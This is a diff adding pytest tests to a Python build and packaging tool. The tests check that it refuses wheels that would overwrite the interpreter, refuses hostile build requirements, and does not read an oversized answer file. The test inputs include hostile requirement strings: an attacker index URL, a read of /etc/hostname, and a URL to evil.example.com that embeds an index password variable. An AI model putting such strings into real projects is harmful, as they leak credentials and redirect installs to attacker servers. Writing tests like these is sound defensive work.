@@ -375,3 +375,52 @@ def test_environment_of_builds_is_fixed() -> None:
     """Nothing of this machine, and a time that never changes."""
     assert sdist.ENVIRONMENT["SOURCE_DATE_EPOCH"] == "315532800"
     assert sdist.ENVIRONMENT["PYTHONHASHSEED"] == "0"
+
+
+@pytest.mark.parametrize("entry", [True, False], ids=["entry point", "script"])
+def test_a_requirement_never_writes_through_the_interpreters_link(tmp_path: Path, *, entry: bool) -> None:
+    """`bin/python` leads to a file of this machine; a wheel with a program of that name is refused, the file kept."""
+    host = tmp_path / "host-python"
+    host.write_text("precious")
+    files = (
+        {"demo-1.0.dist-info/entry_points.txt": b"[console_scripts]\npython = demo:main\n"}
+        if entry
+        else {"demo-1.0.data/scripts/python": b"#!python\n"}
+    )
+    wheel = make_wheel(tmp_path, files=files)
+    row = Requirement(name="demo", version="1.0", file=wheel.name, size=1, sha256="0" * 64)
+    with pytest.raises(EnvlockError, match="build-requirement"):
+        build_environment.install([row], [wheel], tmp_path / "environment", interpreter=str(host))
+    assert host.read_text() == "precious"
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "--index-url=https://evil.example.com/simple",
+        "-r /etc/hostname",
+        "demo @ https://evil.example.com/${UV_INDEX_OWN_PASSWORD}/demo-1.0-py3-none-any.whl",
+        "demo @ file:///demo-1.0-py3-none-any.whl",
+    ],
+)
+def test_builds_require_releases_of_an_index(run: Callable[..., BuiltWheel], hostile: str) -> None:
+    """Neither pyproject.toml nor a backend may name options of the resolver, files or URLs."""
+    asked: list[Any] = []
+    pyproject = f"[build-system]\nrequires = [{json.dumps(hostile)}]\n"
+    with pytest.raises(UsageError, match="bad-pyproject"):
+        run(PretendedRoot(makes()), {"pyproject.toml": pyproject}, asked=asked)
+    assert asked == []
+    with pytest.raises(UsageError, match="bad-pyproject"):
+        run(PretendedRoot(makes(), asks=[hostile]), asked=asked)
+    assert asked == [["setuptools>=40.8.0"]]
+
+
+def test_an_endless_answer_is_not_read(run: Callable[..., BuiltWheel]) -> None:
+    """Of what a hostile build leaves in place of its answer, no more than an answer may have is read."""
+
+    def build(work: Path, _: dict[str, Any]) -> None:
+        with (work / "answer.json").open("wb") as file:
+            file.truncate(1 << 36)
+
+    with pytest.raises(UsageError, match="left no answer"):
+        run(PretendedRoot(build))
